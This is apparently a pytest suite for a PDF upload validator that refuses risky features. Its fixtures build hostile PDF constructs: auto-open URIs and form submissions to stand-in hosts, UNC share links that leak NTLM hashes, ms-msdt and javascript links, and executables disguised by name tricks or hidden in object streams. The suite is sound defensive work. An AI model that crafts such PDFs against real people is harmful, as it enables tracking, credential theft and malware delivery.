"""Risky PDF features (issue 11): what a document may do when it is opened or clicked, and
what it carries inside. The decision per feature is in docmgr/core/pdf_risks.py; each is
tested plainly, hidden in a compressed object stream, and spelled the ways a file can
spell it (indirect objects, hex and UTF-16 strings, /Next chains)."""
import zlib

import pytest

from docmgr.core import inflation, pdf_risks, uploads
from docmgr.core.errors import UploadRejected
from docmgr.core.uploads import check_pdf
from tests.risky_pdfs import (
    PROGRAM,
    TEXT,
    attached,
    document,
    embedded_stream,
    link,
    owner_password_only,
    protected_draft_pdf,
)

MAX = 50 * 1024 * 1024


def refused(data: bytes) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        check_pdf(data, max_bytes=MAX)
    assert caught.value.field == "file" and caught.value.status == 400
    return caught.value


def reason(data: bytes) -> str:
    return refused(data).extra["reason"]


# --- ordinary documents stay untouched -----------------------------------------------------

def test_http_links_clicked_by_the_reader_are_accepted_without_warning():
    # Laws cite addresses: a link the reader clicks is a citation, not a risk.
    data = document(link(b"<< /S /URI /URI (https://vbpl.vn/bo-tu-phap) >>"),
                    link(b"<< /S /URI /URI <687474703a2f2f636f6e6762616f2e676f762e766e> >>"),
                    link(b"<< /S /URI /URI (mailto:vanthu@quangngai.gov.vn) >>"),
                    link(b"<< /S /URI /URI (www.chinhphu.vn) >>"),
                    page=b"/Annots [4 0 R 5 0 R 6 0 R 7 0 R]")
    checked = check_pdf(data, max_bytes=MAX)
    assert checked.warnings == () and not checked.encrypted


def test_an_open_action_that_stays_in_the_document_is_accepted():
    data = document(catalog=b"/OpenAction [3 0 R /Fit] /PageMode /UseOutlines")
    assert check_pdf(data, max_bytes=MAX).warnings == ()


# --- actions run without a click ------------------------------------------------------------

@pytest.mark.parametrize("packed", [(), (1,)], ids=["plain", "catalog-in-object-stream"])
def test_an_open_action_to_an_address_is_refused(packed):
    error = refused(document(catalog=b"/OpenAction << /S /URI /URI (http://tracker.example/"
                                     b"mo-van-ban?id=7) >>", packed=packed))
    assert error.extra["reason"] == "open_url"
    assert error.message == (
        "Tệp PDF tự động mở địa chỉ hoặc tệp bên ngoài khi được mở hoặc xem (http://"
        "tracker.example/mo-van-ban?id=7), nên không được chấp nhận. Hãy gửi bản PDF không "
        "có thao tác tự động này.")


@pytest.mark.parametrize("packed", [(), (1, 4), (4,)],
                         ids=["plain", "both-in-object-stream", "action-in-object-stream"])
def test_an_open_action_to_an_address_held_in_another_object_is_refused(packed):
    data = document(b"<< /S /URI /URI (http://tracker.example/) >>",
                    catalog=b"/OpenAction 4 0 R", packed=packed)
    assert reason(data) == "open_url"


def test_an_address_at_the_end_of_a_chain_of_open_actions_is_refused():
    # The first action stays in the document; the third, reached through /Next, does not.
    data = document(b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>",
                    b"<< /S /Named /N /FirstPage /Next 6 0 R >>",
                    b"<< /S /URI /URI (http://tracker.example/) /Next 4 0 R >>",  # a loop
                    catalog=b"/OpenAction 4 0 R", packed=(5,))
    assert reason(data) == "open_url"


@pytest.mark.parametrize("where,packed", [
    ("page", ()), ("page", (3, 4)), ("annotation", ()), ("annotation", (5,)),
    ("catalog", ()),
])
def test_an_address_opened_by_an_additional_action_is_refused(where, packed):
    # /AA runs on events: the page opening, the mouse entering an annotation, the
    # document closing — none needs a click.
    phone_home = b"<< /S /URI /URI (http://tracker.example/) >>"
    if where == "page":
        data = document(phone_home, page=b"/AA << /O 4 0 R >>", packed=packed)
    elif where == "annotation":
        data = document(phone_home, b"<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] "
                                    b"/AA << /E 4 0 R >> >>", page=b"/Annots [5 0 R]",
                        packed=packed)
    else:
        data = document(catalog=b"/AA << /WC " + phone_home + b" >>")
    assert reason(data) == "open_url"


@pytest.mark.parametrize("action", [
    b"<< /S /GoToR /F (phu-luc.pdf) /D [0 /Fit] >>",
    b"<< /S /ImportData /F (du-lieu.fdf) >>",
    b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>",
])
def test_opening_another_file_or_sending_data_on_open_is_refused(action):
    assert reason(document(catalog=b"/OpenAction " + action)) in ("open_url", "submit_form")


# --- form submission --------------------------------------------------------------------------

@pytest.mark.parametrize("target", [
    b"<< /FS /URL /F (https://collect.example/form) >>",
    b"(https://collect.example/form)",
    b"<< /Type /Filespec /F (mailto:someone@example.com) >>",
])
@pytest.mark.parametrize("packed", [(), (4,)], ids=["plain", "in-object-stream"])
def test_a_form_sending_its_data_out_is_refused(target, packed):
    submit = b"<< /S /SubmitForm /F " + target + b" /Flags 4 >>"
    button = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (gui) "
              b"/Rect [50 50 150 80] /A " + submit + b" >>")
    data = document(button, page=b"/Annots [4 0 R]", catalog=b"/AcroForm << /Fields [4 0 R] >>",
                    packed=packed)
    error = refused(data)
    assert error.extra["reason"] == "submit_form"
    assert error.message.startswith("Tệp PDF chứa biểu mẫu gửi dữ liệu ra địa chỉ bên ngoài (")
    assert "collect.example" in error.message or "someone@example.com" in error.message


def test_a_reset_button_is_not_a_submission():
    button = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (xoa) "
              b"/Rect [50 50 150 80] /A << /S /ResetForm >> >>")
    data = document(button, page=b"/Annots [4 0 R]", catalog=b"/AcroForm << /Fields [4 0 R] >>")
    assert check_pdf(data, max_bytes=MAX).warnings == ()


# --- network shares and local files ---------------------------------------------------------

@pytest.mark.parametrize("action", [
    b"<< /S /URI /URI (\\\\\\\\fileserver\\\\share\\\\bao-cao.docx) >>",  # \\fileserver\share\…
    b"<< /S /URI /URI (file://fileserver/share/bao-cao.docx) >>",
    b"<< /S /URI /URI (FILE:///C:/Windows/System32/) >>",
    b"<< /S /URI /URI (smb://10.0.0.5/share) >>",
    b"<< /S /URI /URI ( //fileserver/share) >>",
    b"<< /S /GoToR /F (\\\\\\\\10.0.0.5\\\\share\\\\phu-luc.pdf) /D [0 /Fit] >>",
    b"<< /S /GoToR /F << /Type /Filespec /UF (\\\\\\\\host\\\\s\\\\a.pdf) >> /D [0 /Fit] >>",
    # UTF-16 with its byte order mark, and the same in hex digits.
    b"<< /S /URI /URI (\xfe\xff\x00\\\\\x00\\\\\x00h\x00o\x00s\x00t\x00\\\\\x00s) >>",
    b"<< /S /URI /URI <FEFF005C005C0068006F00730074005C0073> >>",
])
@pytest.mark.parametrize("packed", [(), (4,)], ids=["plain", "in-object-stream"])
def test_links_to_network_shares_are_refused_even_when_only_clicked(action, packed):
    # Windows answers a share with the reader's NTLM hash: one click leaks it.
    error = refused(document(link(action), page=b"/Annots [4 0 R]", packed=packed))
    assert error.extra["reason"] == "network_path"
    assert "thư mục mạng" in error.message


def test_a_share_named_by_external_stream_data_is_refused():
    data = document(b"<< /Length 0 /F (\\\\\\\\host\\\\share\\\\noi-dung.bin) >>\nstream\n"
                    b"\nendstream", page=b"/Contents 4 0 R")
    assert reason(data) == "network_path"


@pytest.mark.parametrize("uri", [b"javascript:app.alert(1)", b"ms-msdt:/id PCWDiagnostic",
                                 b"data:text/html,<script>x</script>", b"search-ms:query=x"])
def test_links_that_are_no_web_address_are_refused(uri):
    data = document(link(b"<< /S /URI /URI (" + uri + b") >>"), page=b"/Annots [4 0 R]")
    assert reason(data) == "unsafe_link"


# --- embedded files --------------------------------------------------------------------------

@pytest.mark.parametrize("name", [b"(cap-nhat.exe)", b"(HuongDan.PDF.scr)", b"(run.bat. . )",
                                  b"(setup.msi)", b"(macro.vbs)", b"(a.js)", b"(lien-ket.lnk)",
                                  b"<FEFF0061002E0065007800650020>"])  # UTF-16 "a.exe "
def test_embedded_programs_are_refused_by_name(name):
    error = refused(attached(name, TEXT))
    assert error.extra["reason"] == "executable"
    assert error.message.startswith("Tệp PDF có tệp chương trình nhúng bên trong (")


def test_a_program_under_an_innocent_name_is_refused_by_its_first_bytes():
    assert reason(attached(b"(bang-ke.xlsx)", PROGRAM)) == "executable"
    compressed = zlib.compress(PROGRAM)
    stream = (b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n"
              % len(compressed) + compressed + b"\nendstream")
    data = document(b"<< /Type /Filespec /F (bang-ke.xlsx) /EF << /F 5 0 R >> >>", stream,
                    catalog=b"/Names << /EmbeddedFiles << /Names [(f) 4 0 R] >> >>")
    assert reason(data) == "executable"
    assert reason(attached(b"(x.dat)", b"\x7fELF\x02\x01\x01" + bytes(40))) == "executable"


def test_a_program_is_refused_by_its_declared_type_or_by_any_of_its_names():
    assert reason(attached(b"(a.txt)", TEXT,
                           stream_extra=b"/Subtype /application#2Fx-msdownload")) == "executable"
    assert reason(attached(b"(bao-cao.pdf)", TEXT, spec_extra=b"/UF (bao-cao.pdf.exe)")) \
        == "executable"


def test_an_embedded_program_in_a_file_attachment_annotation_is_refused():
    annotation = (b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] "
                  b"/FS << /Type /Filespec /F (cai-dat.exe) /EF << /F 5 0 R >> >> >>")
    data = document(annotation, embedded_stream(TEXT), page=b"/Annots [4 0 R]")
    assert reason(data) == "executable"


def test_an_embedded_program_hidden_in_an_object_stream_is_refused():
    assert reason(attached(b"(cap-nhat.exe)", TEXT, packed=(1, 4))) == "executable"
    assert reason(attached(b"(bang-ke.xlsx)", PROGRAM, packed=(4,))) == "executable"


@pytest.mark.parametrize("packed", [(), (1, 4)], ids=["plain", "in-object-stream"])
def test_other_embedded_files_are_accepted_with_a_warning(packed):
    checked = check_pdf(attached(b"(danh-sach.xlsx)", TEXT, packed=packed), max_bytes=MAX)
    assert checked.warnings == ({"code": "embedded_files", "count": 1,
                                 "names": ["danh-sach.xlsx"]},)
    assert pdf_risks.warning_messages(checked.warnings) == [
        "Tệp PDF có 1 tệp đính kèm nhúng bên trong (danh-sach.xlsx). Hệ thống không kiểm tra "
        "nội dung các tệp này; chỉ mở khi tin cậy nơi gửi."]


def test_many_embedded_files_are_named_up_to_a_limit():
    specs = [b"<< /Type /Filespec /F (tep-%d.txt) /EF << /F %d 0 R >> >>" % (i, 4 + 25 + i)
             for i in range(25)]
    files = [embedded_stream(TEXT + bytes([i])) for i in range(25)]
    tree = b" ".join(b"(f%02d) %d 0 R" % (i, 4 + i) for i in range(25))
    checked = check_pdf(document(*specs, *files,
                                 catalog=b"/Names << /EmbeddedFiles << /Names [" + tree
                                 + b"] >> >>"), max_bytes=MAX)
    (warning,) = checked.warnings
    assert warning["count"] == 25 and len(warning["names"]) == pdf_risks.MAX_NAMES
    assert pdf_risks.warning_message(warning).endswith(
        "tep-19.txt và 5 tệp khác). Hệ thống không kiểm tra nội dung các tệp này; chỉ mở khi "
        "tin cậy nơi gửi.")


@pytest.mark.parametrize("name", ["a.exe", "A.EXE", "a.exe.", "a.exe  ", "a.exe\x00.pdf",
                                  "hoa-don\u202efdp.exe", "x.ps1", "x.jar"])
def test_program_names(name):
    assert pdf_risks.is_program_name(name)


@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "exe", "a.exe.pdf", "bang-ke.xlsx",
                                  "README"])
def test_names_that_are_no_programs(name):
    assert not pdf_risks.is_program_name(name)


# --- encryption ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def protected_draft() -> bytes:
    return protected_draft_pdf()


def test_an_owner_password_is_accepted_with_a_warning(protected_draft):
    checked = check_pdf(protected_draft, max_bytes=MAX)
    assert checked.encrypted and checked.page_count == 1
    assert checked.warnings == ({"code": "owner_password"},)
    assert pdf_risks.warning_messages(checked.warnings) == [
        "Tệp PDF được đặt mật khẩu giới hạn quyền (in, sao chép hoặc sửa nội dung). Văn bản "
        "vẫn xem được, nhưng không ký số lên tệp này được."]


def test_ciphertext_in_the_raw_bytes_is_not_read_as_strings():
    """In an encrypted file's raw bytes a string is ciphertext: one that happens to start
    "x:" or "MZ" must not refuse the file. Only the structure is judged there."""
    data = document(link(b"<< /S /URI /URI (q:\x8f\x02) >>"),
                    b"<< /Type /Filespec /F (\x91\xee.exe) /EF << /F 6 0 R >> >>",
                    embedded_stream(PROGRAM), page=b"/Annots [4 0 R]",
                    catalog=b"/OpenAction << /S /URI /URI (\x03\x99) >>")

    def raw_finder():
        return uploads._scan(data, read_streams=False, meter=inflation.Meter())[2]
    assert {code for code, _ in raw_finder().findings().refusals} == \
        {"open_url", "unsafe_link", "executable"}
    found = raw_finder().findings(encrypted=True)
    assert found.refusals == [("open_url", "URI")]  # the action's kind is no string
    assert found.embedded == ["(tệp không tên)"]


def test_risks_inside_an_encrypted_file_are_found(protected_draft):
    # The raw bytes show encrypted strings only; PDFium's decrypted rewrite shows the link.
    risky = owner_password_only(document(link(
        b"<< /S /URI /URI (\\\\\\\\host\\\\share) >>"), page=b"/Annots [4 0 R]"))
    assert b"host" not in risky
    assert reason(risky) == "network_path"


# --- how object streams are read -------------------------------------------------------------

def test_the_raw_reading_decodes_object_streams_pdfium_may_never_load():
    """Names and objects inside an object stream are seen in the raw bytes too, after
    bounded decoding: a reader that recovers objects PDFium ignores must not run them."""
    data = document(b"<< /S /JavaScript /JS (app.alert(1)) >>",
                    b"<< /S /URI /URI (http://tracker.example/) >>",
                    catalog=b"/OpenAction 5 0 R", packed=(1, 4, 5))
    names, _, finder = uploads._scan(data, read_streams=False, meter=inflation.Meter())
    assert b"JavaScript" in names
    assert finder.findings().refusal() == ("open_url", "http://tracker.example/")


def test_an_object_stream_too_large_to_read_is_refused(monkeypatch):
    # Past the limit a stream could hide what the check looks for: not half read.
    monkeypatch.setattr(uploads, "MAX_OBJECT_STREAM", 4096)
    with pytest.raises(UploadRejected) as caught:
        uploads.inspect(document(b"<< /Pad (" + b"x" * 5000 + b") >>", packed=(4,)))
    assert caught.value.extra["reason"] == "processing_limit"
    assert uploads.inspect(document(b"<< /Pad (" + b"x" * 3000 + b") >>", packed=(4,)))


# --- the shared corpus -----------------------------------------------------------------------

# Corpus files this check refuses, and why.
CORPUS_REFUSED = {"pdf/normal/pypdf-010-pdflatex-forms.pdf": "submit_form"}
CORPUS_EMBEDDED = {"pdf/hostile/pdfjs-attachment.pdf": ["foo.txt"],
                   "pdf/normal/pypdf-025-with-attachment.pdf": ["image.png"],
                   "pdf/pdfa/verapdf-A3b-6-8-t02-pass-a.pdf": ["TextFile.txt"]}


@pytest.mark.corpus
@pytest.mark.parametrize("relative", sorted(CORPUS_REFUSED))
def test_corpus_files_with_risky_features_are_refused(corpus_dir, relative):
    assert reason((corpus_dir / relative).read_bytes()) == CORPUS_REFUSED[relative]


@pytest.mark.corpus
@pytest.mark.parametrize("relative", sorted(CORPUS_EMBEDDED))
def test_corpus_files_with_attachments_are_accepted_with_a_warning(corpus_dir, relative):
    checked = check_pdf((corpus_dir / relative).read_bytes(), max_bytes=MAX)
    assert checked.warnings[0]["names"] == CORPUS_EMBEDDED[relative]

